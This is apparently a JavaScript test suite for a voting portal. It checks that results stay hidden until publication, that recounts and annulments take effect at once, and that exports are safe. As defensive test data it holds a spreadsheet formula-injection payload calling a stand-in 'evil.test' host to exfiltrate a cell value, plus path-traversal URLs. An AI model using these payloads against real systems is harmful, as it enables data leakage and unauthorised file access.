// Somebody wants the results before everybody: from an export, a cache, a page, a file that lies about; and somebody
// else goes on showing results that are no longer so. That running totals leak nowhere while a vote is on, and what one
// voter may be seen by, is in voting.test.mjs; a thousand votes of one person at once too.
import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Vote, afterwards, campaign } from './vote.mjs';

const id = 'ppmi.main', formula = '=HYPERLINK("http://evil.test/?"&A1,"Протокол 5")';
let vote, projects, batch;
before(async () => {
  vote = await Vote.start({ campaigns: [campaign('main'), campaign('other')], projects: 2 });
  projects = await vote.open(id);
  for (const name of ['Ёлкин', 'Сегоднева']) assert.equal((await vote.cast(await vote.person(name), id, [projects[1]])).status, 201);
  const sheet = { channel: 'paper', place: 'Дом культуры', voters: [{ document: '1234 567890' }], ballots: [{ district: '', choices: [{ project: projects[1].id }] }] };
  batch = (await vote.post(await vote.staff('Бывшев'), `${id}/batches`, sheet)).body.id;
  assert.equal((await vote.post(await vote.staff('Прошлов'), `${id}/batches/${batch}/accept`, {})).status, 200);
  await vote.sealed(id, 3);
});
after(() => vote?.stop());

const tails = ['/results', '/ballots.csv', '/ballots.json', '/ballots.pb'];
const pages = [`/votes/${id}/results`, `/votes/${id}`, '/votes', '/', '/projects'];
const everyone = ['Дальнева', 'Римская-Корсакова', 'Белова', 'Безкодов', 'Областной', 'Бывшев'];
const spellings = path => [path, `${path}?`, `${path}?x=1`, `${path}?district=`, `${path}?published=true`, path.replace('ppmi.main', 'ppmi%2emain')];

// Every way of reading the results, by everybody who might think it is theirs.
async function nobodyReads(when) {
  for (const tail of tails)
    for (const path of spellings(`/api/v1/campaigns/${id}${tail}`)) {
      for (const name of everyone) {
        const answer = await (await vote.person(name)).call('GET', path);
        assert.equal(answer.status, 409, `${when}: ${name} ${path}`);
      }
      for (const headers of [{}, { 'if-none-match': '*' }, { range: 'bytes=0-' }, { accept: 'text/html' }]) assert.equal((await fetch(vote.portal.url + path, { headers })).status, 409, `${when}: ${path} ${JSON.stringify(headers)}`);
    }
  for (const path of pages) {
    const page = await (await fetch(vote.portal.url + path)).text();
    for (const each of projects) assert.doesNotMatch(page.replaceAll(/\s+/g, ' '), new RegExp(`${each.number}[^{}]*"votes"|"votes":\\s*[1-9]|[1-9] голос`), `${when}: ${path}`);
  }
}

test('while the vote is on, and when it is over and not published, nobody reads the results anywhere', async () => {
  await nobodyReads('open');
  await vote.clock(afterwards);
  await nobodyReads('closed');
  assert.ok(!existsSync(join(vote.portal.folder, 'data', 'exports')) || readdirSync(join(vote.portal.folder, 'data', 'exports')).length === 0, 'a file of the results lies about already');
});

test('a request to publish that waits for its second person publishes nothing', async () => {
  const asked = await vote.post(await vote.staff('Белова'), `${id}/actions`, { action: 'publish', protocol: 'Протокол 9', reason: 'Подсчёт закончен' });
  assert.equal(asked.status, 202);
  await nobodyReads('asked');
  const rejected = await (await vote.staff('Безкодов')).call('POST', `/api/v1/approvals/${asked.body.id}/reject`, { reason: 'Рано' });
  assert.equal(rejected.status, 200);
  await nobodyReads('rejected');
});

test('a protocol named like a formula of a spreadsheet is text in the export', async () => {
  assert.equal((await vote.act(id, 'annul', { scope: 'batch', batch, protocol: formula })).status, 200);
  const results = await vote.publish(id);
  assert.equal(results.annulled[0].count, 1);
  const { text } = await vote.get(`${id}/ballots.csv`);
  assert.ok(text.includes('HYPERLINK'), text);
  const cells = text.split('\r\n').slice(1).flatMap(line => line.match(/"(?:[^"]|"")*"|[^;]+/g) ?? []).map(cell => cell.replace(/^"/, ''));
  assert.deepEqual(cells.filter(cell => /^[=+@\t\r-]/.test(cell)), []);
});

test('what is published is there at once, for those too who asked a moment before', async () => {
  for (const tail of tails) assert.equal((await vote.get(id + tail)).status, 200, tail);
  assert.match(await (await fetch(`${vote.portal.url}/votes/${id}/results`)).text(), new RegExp(projects[1].number));
});

test('a recount takes the place of the one before at once: no answer and no file goes on showing the old', async () => {
  const first = (await vote.get(`${id}/results`)).body, votes = (await vote.get(`${id}/ballots.json`)).headers.get('content-disposition');
  assert.equal((await vote.act(id, 'annul', { scope: 'channel', channel: 'portal', protocol: 'Протокол 11' })).status, 200);
  const again = await vote.publish(id);
  assert.equal(again.recounts, first.recounts + 1);
  assert.deepEqual(again.districts[0].projects.map(each => each.votes), [0, 0]);
  for (const path of spellings(`/api/v1/campaigns/${id}/results`)) assert.deepEqual((await (await fetch(vote.portal.url + path)).json()).districts[0].projects.map(each => each.votes), [0, 0], path);
  const files = await vote.get(`${id}/ballots.json`);
  assert.notEqual(files.headers.get('content-disposition'), votes);
  assert.equal(files.body.ballots.length, 0);
});

test('an annulled vote has no results any more, from that moment, though files of them were made', async () => {
  assert.ok(readdirSync(join(vote.portal.folder, 'data', 'exports')).length > 0);
  assert.equal((await vote.act(id, 'annul', { scope: 'campaign', protocol: 'Протокол 12' })).status, 200);
  await nobodyReads('annulled');
  for (const path of [`/exports/${id}-1.csv`, `/data/exports/${id}-1.csv`, `/assets/..%2f..%2fdata%2fexports%2f${id}-1.csv`]) assert.equal((await fetch(vote.portal.url + path)).status, 404, path);
});

test('a vote of another name is not reached through this one', async () => {
  for (const path of [`${id}%2f..%2fppmi.other/results`, `${id}/../ppmi.other/ballots.json`, 'ppmi.none/results', '../campaigns/ppmi.other/opening']) assert.ok([401, 404, 409].includes((await fetch(`${vote.portal.url}/api/v1/campaigns/${path}`)).status), path);
});
